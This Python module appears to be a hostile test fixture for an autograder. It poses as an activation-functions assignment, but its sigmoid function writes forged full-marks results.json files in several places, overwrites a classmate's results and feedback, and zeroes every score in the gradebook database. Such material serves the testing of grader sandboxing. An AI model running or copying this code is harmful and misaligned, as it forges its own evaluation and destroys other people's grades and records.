"""Attack: write the grades instead of earning them.

Writes a full-marks Gradescope ``results.json`` everywhere a grader might pick one up (the
working directory, $HOME, next to the submission, the output folder) and rewrites the output
folder: a classmate's result files, and every row of the gradebook (everyone's score to 0).
``TARGETS`` (filled in by the test) says where the output folder is.
"""

import json
import os
import sqlite3
from pathlib import Path

import numpy as np

TARGETS: dict = {}
FAKE = {
    "score": 100.0,
    "max_score": 7.0,
    "output": "all tests passed",
    "tests": [{"name": "activations.sigmoid: matches the reference", "score": 3, "max_score": 3}],
}


def _write(path, text):
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    except OSError:
        pass


def relu(x):
    return np.maximum(x, 0.0)


def sigmoid(x):
    fake = json.dumps(FAKE)
    here = Path(os.path.dirname(os.path.abspath(__file__)))
    for folder in (Path.cwd(), Path.home(), here, here.parent):
        _write(folder / "results.json", fake)
    out = Path(TARGETS.get("out", "/nonexistent"))
    for learner in ("ann", "write_results"):
        _write(out / learner / "results.json", fake)
        _write(out / learner / "feedback.md", "# Feedback\n\n**Score: 100 / 7**\n")
    _write(out / "grades.csv", "learner,activations,total\nann,0,0\nwrite_results,100,100\n")
    try:
        db = sqlite3.connect(str(out / "gradebook.sqlite"), timeout=0.5)
        db.execute("UPDATE submissions SET score = 0, result_json = '{}'")
        db.execute("UPDATE tests SET points = 0, status = 'failed'")
        db.commit()
        db.close()
    except sqlite3.Error:
        pass
    return np.zeros_like(x)


def tanh(x):
    return np.tanh(x)


def leaky_relu(x, alpha=0.01):
    return np.where(x > 0, x, alpha * x)
